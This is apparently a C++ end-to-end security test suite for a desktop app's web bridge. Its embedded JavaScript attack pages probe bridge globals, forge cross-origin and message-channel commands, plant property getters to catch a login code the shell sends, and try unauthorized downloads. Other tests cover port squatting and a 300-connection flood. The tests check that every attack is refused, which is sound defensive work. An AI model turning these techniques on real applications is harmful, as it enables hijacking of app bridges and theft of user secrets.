// Attacks on the bridge from inside the real web view: a web site shown in
// frames of the application's page (an ad, a login page) tries every road to
// the bridge, the page tries to read the user's files, and another program
// holds the port pages expect.
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cstdlib>
#include <fstream>
#include <map>
#include <mutex>

#include "base/FileRead.h"
#include "e2e/EndToEndFixture.h"
#include "log/Log.h"
#include "net/HTTPServer.h"
#include "net/QLWorkerThread.h"
#include "support/CapturedLog.h"
#include "support/IPv6Squatter.h"
#include "support/LoopbackClient.h"

namespace tavero::app::e2e {
namespace {

// The web site: serves its attack page and records what the page reports
// (GET /report?key=value).
class WebSite : private net::HTTPConnectionDelegate {
 public:
  WebSite() {
    worker_.performAndWait([&] {
      server_.setConnectionDelegate(this);
      return server_.start();
    });
  }
  ~WebSite() {
    worker_.performAndWait([&] {
      server_.stop();
      server_.closeAllConnections();
      server_.setConnectionDelegate(nullptr);
    });
  }

  std::string address() const { return "http://127.0.0.1:" + std::to_string(server_.port()); }

  // Every report of `key`, in arrival order.
  std::vector<std::string> reports(const std::string& key) {
    std::lock_guard lock(mutex_);
    auto [first, last] = reports_.equal_range(key);
    std::vector<std::string> values;
    for (auto it = first; it != last; ++it) values.push_back(it->second);
    return values;
  }

 private:
  // Reports go out as images, so they need no CORS and work from sandboxed frames.
  static constexpr const char* kAttackPage = R"(<!DOCTYPE html><html><body><script>
    const query = new URLSearchParams(location.search);
    const frame = query.get('frame');
    const report = (key, value) => { new Image().src = '/report?' + frame + '.' + key + '=' + encodeURIComponent(String(value)); };
    report('globals', [typeof window.__taveroBridge, typeof window.Kio, typeof window.device].join());
    // The web process extension's function: not in this window, and the
    // app's page (another origin) keeps its own out of reach.
    const parentNative = (() => { try { return typeof parent.__taveroNative; } catch (e) { return 'blocked'; } })();
    report('native', [typeof window.__taveroNative, parentNative].join());
    const command = 'http://127.0.0.1:' + query.get('bridge') + '/?command=Attack%23record&sync=true&from=';
    new Image().src = command + 'image';
    fetch(command + 'nocors', {mode: 'no-cors'}).catch(() => {});
    const read = fetch(command + 'cors').then((r) => r.text().then((t) => report('read', r.status + ' ' + t)),
                                              (e) => report('read', 'failed'));
    const handlers = window.webkit && window.webkit.messageHandlers;
    const channel = handlers && handlers.tavero
      ? handlers.tavero.postMessage(JSON.stringify({token: '', calls: [{command: 'Attack#record', sync: true, args: {from: 'channel'}}]}))
          .then((answer) => report('channel', 'answered ' + answer), (error) => report('channel', 'refused'))
      : Promise.resolve(report('channel', 'absent'));
    Promise.all([read, channel]).then(() => setTimeout(() => report('done', 'yes'), 300));
  </script></body></html>)";

  // A site the app's own page navigates to: it sets up what the shell's
  // page client would have, so that anything the shell sends the app's page
  // would reach it, and a getter that sees every read of the mark the shell
  // checks. Once something tried, it reports what it has and goes back.
  static constexpr const char* kNavigatedPage = R"(<!DOCTYPE html><html><body><script>
    const report = (key, value) => { new Image().src = '/report?' + key + '=' + encodeURIComponent(String(value)); };
    window.Kio = {device: {Communicator: {invoke: (id, values) => report('invoke', JSON.stringify(values))}}};
    let device;
    Object.defineProperty(window, 'device', {configurable: true, get: () => device,
                                             set: (value) => { report('device', JSON.stringify(value)); device = value; }});
    let tried = false;
    Object.defineProperty(Object.prototype, '__taveroDocumentKey', {get: () => {
      report('keyRead', 'yes');
      if (!tried) {
        tried = true;
        setTimeout(() => {
          report('globals', [typeof window.__taveroBridge, JSON.stringify(device)].join());
          report('native', typeof window.__taveroNative);
          setTimeout(() => history.back(), 200);
        }, 500);
      }
      return 'a guess';
    }});
    report('ready', 'yes');
  </script></body></html>)";

  // A site in a frame that offers files to save: a blob of its own and a
  // data: URL.
  static constexpr const char* kDownloadPage = R"(<!DOCTYPE html><html><body><script>
    const offers = [[URL.createObjectURL(new Blob(['from the site'])), 'site-blob.txt'],
                    ['data:text/plain,from%20the%20site', 'site-data.txt']];
    offers.forEach(([href, name], index) => setTimeout(() => {
      const link = document.createElement('a');
      link.href = href;
      link.download = name;
      document.body.appendChild(link);
      link.click();
    }, index * 400));
  </script></body></html>)";

  static const char* pageFor(const std::string& target) {
    if (target.starts_with("/site.html")) return kNavigatedPage;
    if (target.starts_with("/download.html")) return kDownloadPage;
    return kAttackPage;
  }

  void didReceiveRequest(net::HTTPConnection&, const std::shared_ptr<net::HTTPServerRequest>& request) override {
    std::string target(request->request().target());
    if (target.starts_with("/report?")) {
      std::string piece = target.substr(8);
      size_t eq = piece.find('=');
      std::lock_guard lock(mutex_);
      reports_.emplace(piece.substr(0, eq), eq == std::string::npos ? "" : decode(piece.substr(eq + 1)));
      request->setResponse(net::makeHTTPResponse(net::HTTPStatus::no_content));
      return;
    }
    auto response = net::makeHTTPResponse(net::HTTPStatus::ok, pageFor(target));
    response.set(boost::beast::http::field::content_type, "text/html");
    request->setResponse(std::move(response));
  }

  static std::string decode(const std::string& text) {
    std::string out;
    for (size_t i = 0; i < text.size(); ++i) {
      if (text[i] == '%' && i + 2 < text.size()) {
        out += static_cast<char>(std::stoi(text.substr(i + 1, 2), nullptr, 16));
        i += 2;
      } else {
        out += text[i];
      }
    }
    return out;
  }

  net::QLWorkerThread worker_;
  net::HTTPServer server_{worker_.context()};
  std::mutex mutex_;
  std::multimap<std::string, std::string> reports_;
};

// What the attacked application offers: its web site's address, a record
// of every call that got through, and an echo.
class TQSite : public bridge::TQW3CAction {
 public:
  TQSite(std::string address, uint16_t squattedPort) {
    addOperation("address", [address](bridge::Invocation& call) { call.setResult(address); });
    addOperation("squatted", [squattedPort](bridge::Invocation& call) { call.setResult(int64_t{squattedPort}); });
    addOperation("echo", [](bridge::Invocation& call) { call.setResult(std::string(call.text("value"))); });
  }
};

class TQAttack : public bridge::TQW3CAction {
 public:
  explicit TQAttack(std::atomic<int>& calls) {
    addOperation("record", [&calls](bridge::Invocation&) { ++calls; });
  }
};

// Holds the last callback a page handed over, for the test to answer later
// (as a watch answers); tells pages the web site's address.
class TQHeld : public bridge::TQW3CAction {
 public:
  explicit TQHeld(std::string address) {
    addOperation("hold", [this](bridge::Invocation& call) {
      std::lock_guard lock(mutex_);
      held_ = {static_cast<int>(call.integer("callback")), call.pageName()};
      ++holds_;
    });
    addOperation("site", [address](bridge::Invocation& call) { call.setResult(address); });
  }
  int holds() {
    std::lock_guard lock(mutex_);
    return holds_;
  }
  std::pair<int, std::string> held() {
    std::lock_guard lock(mutex_);
    return held_;
  }

 private:
  std::mutex mutex_;
  std::pair<int, std::string> held_;
  int holds_ = 0;
};

class BridgeSecurityEndToEnd : public EndToEndTest {
 protected:
  std::unique_ptr<ShellApplication> makeAttackedShell(const std::string& bundle, const std::string& site,
                                                      uint16_t port = 0) {
    return makeShell(bundle, [&, site, port](ShellApplication::Settings& settings) {
      settings.port = port;
      auto probe = settings.extraModules;
      settings.extraModules = [this, probe, site, port](bridge::ModuleRegistry& modules,
                                                        bridge::CallbackDelivery& callbacks) {
        probe(modules, callbacks);
        modules.add("TQSite", [site, port] { return std::make_unique<TQSite>(site, port); });
        modules.add("TQAttack", [this] { return std::make_unique<TQAttack>(attackCalls_); });
      };
    });
  }

  std::atomic<int> attackCalls_{0};
};

// Pages call on the message channel and HTTP, as without the web process
// extension, while it lives: for the checks of the HTTP bridge itself.
class HTTPRoadsOnly {
 public:
  HTTPRoadsOnly() { ::setenv("TAVERO_WEB_EXTENSION", "off", 1); }
  ~HTTPRoadsOnly() { ::unsetenv("TAVERO_WEB_EXTENSION"); }
};

TEST_F(BridgeSecurityEndToEnd, AFramedWebSiteGetsNoCommandCarriedOutAndPagesReadOnlyTheirOwnFiles) {
  WebSite site;
  auto shell = makeAttackedShell("attack-app", site.address());
  ASSERT_TRUE(shell->launch());
  auto verdict = waitForVerdict(*shell);
  ASSERT_TRUE(verdict) << "the page never reported";
  // Checks report as they finish, in any order.
  EXPECT_EQ(verdict->size(), 6u) << text(*verdict);
  expectAllTrue(*verdict, {"hasToken", "readsOwn"});
  const json::Value* encodedPage = verdict->find("encodedPage");
  EXPECT_TRUE(encodedPage && *encodedPage == json::Value("not loaded")) << text(*verdict);
  for (const char* read : {"syncReadsEtc", "fetchesEtc", "fetchesEncoded"}) {
    const json::Value* value = verdict->find(read);
    EXPECT_TRUE(value && *value == json::Value(false)) << read << " in " << text(*verdict);
  }

  ASSERT_TRUE(serveUntil(*shell, [&] {
    return !site.reports("plain.done").empty() && !site.reports("sandboxed.done").empty();
  })) << "the web site's frames never finished";
  for (const char* frame : {"plain", "sandboxed"}) {
    const std::string name(frame);
    EXPECT_EQ(site.reports(name + ".globals"), std::vector<std::string>{"undefined,undefined,undefined"}) << frame;
    EXPECT_EQ(site.reports(name + ".channel"), std::vector<std::string>{"refused"}) << frame;
    EXPECT_EQ(site.reports(name + ".native"), std::vector<std::string>{"undefined,blocked"}) << frame;
    // Refused without CORS consent: the site cannot even read the refusal.
    EXPECT_EQ(site.reports(name + ".read"), std::vector<std::string>{"failed"}) << frame;
  }
  EXPECT_EQ(attackCalls_.load(), 0);
  shell->terminate();
}

TEST_F(BridgeSecurityEndToEnd, AWebSiteTheAppNavigatesToGetsNothingMeantForTheAppsPage) {
  WebSite site;
  TQHeld* held = nullptr;
  bridge::CallbackDelivery* callbacks = nullptr;
  auto shell = makeShell("navigate-app", [&](ShellApplication::Settings& settings) {
    auto probe = settings.extraModules;
    settings.extraModules = [&, probe, address = site.address()](bridge::ModuleRegistry& modules,
                                                                  bridge::CallbackDelivery& delivery) {
      probe(modules, delivery);
      callbacks = &delivery;
      modules.add("TQHeld", [&held, address] {
        auto module = std::make_unique<TQHeld>(address);
        held = module.get();
        return module;
      });
    };
  });
  ASSERT_TRUE(shell->launch());
  ASSERT_TRUE(serveUntil(*shell, [&] { return !site.reports("ready").empty(); })) << "the app never went to the site";
  ASSERT_TRUE(held && callbacks);
  auto [callbackId, page] = held->held();

  // What the shell sends the app's page while the site is shown: a watch's
  // answer, and the URL (with its login code) that opened the app.
  callbacks->invokeCallback(callbackId, json::Value("position 52.5,13.4"), page);
  shell->delegate().openURL("navapp://login?code=SECRET", "org.example.browser");
  // Each report is a request of its own, and they may arrive in any order.
  ASSERT_TRUE(serveUntil(*shell, [&] {
    return !site.reports("globals").empty() && !site.reports("native").empty() && !site.reports("keyRead").empty();
  })) << "the site never reported";
  EXPECT_FALSE(site.reports("keyRead").empty());  // the shell's scripts did land there, and stopped
  EXPECT_TRUE(site.reports("invoke").empty()) << site.reports("invoke").front();
  EXPECT_TRUE(site.reports("device").empty()) << site.reports("device").front();
  EXPECT_EQ(site.reports("globals"), std::vector<std::string>{"undefined,"});
  EXPECT_EQ(site.reports("native"), std::vector<std::string>{"undefined"});

  // Back on its own page, the app sets its callback up anew and gets answers.
  auto verdict = waitForVerdict(*shell);
  ASSERT_TRUE(verdict) << "the app's page did not come back";
  EXPECT_EQ(text(*verdict), R"({ "visits" : 2, "held" : true, "scheme" : "navapp:\/\/login?code=SECRET"})");
  EXPECT_EQ(held->holds(), 2);
  probe_->clearVerdict();
  std::tie(callbackId, page) = held->held();
  callbacks->invokeCallback(callbackId, json::Value("position 48.1,11.6"), page);
  verdict = waitForVerdict(*shell);
  ASSERT_TRUE(verdict);
  EXPECT_EQ(text(*verdict), R"({ "visits" : 2, "received" : ["position 48.1,11.6"], "scheme" : "navapp:\/\/login?code=SECRET"})");
  shell->terminate();
}


std::string fileText(const fs::path& file) { return base::readFileText(file).value_or(""); }

TEST_F(BridgeSecurityEndToEnd, OnlyTheAppsOwnDocumentsDownloadAndOnlyWhenItsBundleSaysSoNeverReplacingAFile) {
  const fs::path downloads = home_ / "Downloads";
  fs::create_directories(downloads);
  std::ofstream(downloads / "notes.txt") << "the user's notes";
  WebSite site;
  testing::CapturedLog log;
  auto shell = makeShell("download-app", [&](ShellApplication::Settings& settings) {
    settings.downloadsFolder = downloads;
    auto probe = settings.extraModules;
    settings.extraModules = [probe, address = site.address()](bridge::ModuleRegistry& modules,
                                                               bridge::CallbackDelivery& callbacks) {
      probe(modules, callbacks);
      modules.add("TQSite", [address] { return std::make_unique<TQSite>(address, 0); });
    };
  });
  ASSERT_TRUE(shell->launch());
  const auto refused = [&](const std::string& what) { return !log.containing("download of " + what).empty(); };
  EXPECT_TRUE(serveUntil(*shell, [&] {
    return fileText(downloads / "notes (1).txt") == "from the app" && fileText(downloads / "own.txt") == "own file\n" &&
           refused("data:") && refused("blob:http://127.0.0.1") && log.containing("refused").size() >= 3;
  })) << "the downloads did not end as expected; the log:\n" << log.all();
  EXPECT_EQ(fileText(downloads / "notes.txt"), "the user's notes");
  for (const char* absent : {"data.txt", "Info.plist", "site-blob.txt", "site-data.txt"})
    EXPECT_FALSE(fs::exists(downloads / absent)) << absent;
  EXPECT_EQ(std::distance(fs::directory_iterator(downloads), fs::directory_iterator()), 3);
  shell->terminate();
}

TEST_F(BridgeSecurityEndToEnd, AnAppWhoseBundleDoesNotAllowDownloadsSavesNothing) {
  const fs::path downloads = home_ / "Downloads";
  testing::CapturedLog log;
  auto shell = makeShell("download-off-app", [&](ShellApplication::Settings& settings) {
    settings.downloadsFolder = downloads;
  });
  ASSERT_TRUE(shell->launch());
  EXPECT_TRUE(serveUntil(*shell, [&] { return !log.containing("does not allow downloads").empty(); }));
  EXPECT_FALSE(fs::exists(downloads / "notes.txt"));
  shell->terminate();
}

TEST_F(BridgeSecurityEndToEnd, NoPageLoadsWhenTheWebViewsContentRulesCannotBeHad) {
  // Where the web view keeps its compiled rules is a file: they cannot be
  // compiled, and the page would run without the rules that keep it to its
  // own files.
  const fs::path store = platform::HomeFolders{home_}.caches() / "WebKit" / "ContentRules";
  fs::create_directories(store.parent_path());
  std::ofstream(store) << "not a folder";
  testing::CapturedLog log;
  auto shell = makeAttackedShell("attack-app", "http://127.0.0.1:9");
  EXPECT_FALSE(shell->launch());
  EXPECT_FALSE(log.containing("content rules are missing").empty());
  EXPECT_FALSE(probe_ && probe_->verdict()) << "the page ran";
  shell->terminate();
}

using testing::IPv6Squatter;

TEST_F(BridgeSecurityEndToEnd, APortAnotherProgramHoldsNeverSeesThePagesRequests) {
  HTTPRoadsOnly httpRoads;  // the page's sendSync goes to the port the shell took
  IPv6Squatter squatter;
  if (!squatter.ok()) GTEST_SKIP() << "this machine has no IPv6 loopback";
  auto shell = makeAttackedShell("squat-app", "", squatter.port());
  ASSERT_TRUE(shell->launch());
  EXPECT_NE(shell->bridge().port(), squatter.port());
  auto verdict = waitForVerdict(*shell);
  ASSERT_TRUE(verdict) << "the page never reported";
  // The page's checks report as they finish, in any order.
  EXPECT_EQ(verdict->size(), 3u) << text(*verdict);
  expectAllTrue(*verdict, {"sendSync", "channel", "fixedPortBlocked"});
  EXPECT_FALSE(squatter.anyoneConnected());
  shell->terminate();
}

TEST_F(BridgeSecurityEndToEnd, AConnectionFloodBeforeLaunchLeavesTheAppWorking) {
  HTTPRoadsOnly httpRoads;  // the page's sendSync goes through the flooded listener
  auto shell = makeAttackedShell("squat-app", "");
  const uint16_t port = shell->bridge().port();
  // Another program opens many connections and sends half a request on each.
  std::vector<std::unique_ptr<testing::LoopbackClient>> flood;
  for (int i = 0; i < 300; ++i) {
    flood.push_back(std::make_unique<testing::LoopbackClient>(port));
    flood.back()->send("GET /?command=Site%23echo HTTP/1.1\r\nHost: 127.0.0.1:" + std::to_string(port) + "\r\n");
  }
  ASSERT_TRUE(shell->launch());
  auto verdict = waitForVerdict(*shell);
  ASSERT_TRUE(verdict) << "the page never reported";
  // The page's checks report as they finish, in any order.
  EXPECT_EQ(verdict->size(), 3u) << text(*verdict);
  expectAllTrue(*verdict, {"sendSync", "channel", "fixedPortBlocked"});
  EXPECT_TRUE(flood.front()->waitForClose());  // refused peers are closed at once
  EXPECT_TRUE(flood.back()->waitForClose());
  shell->terminate();
}

}  // namespace
}  // namespace tavero::app::e2e
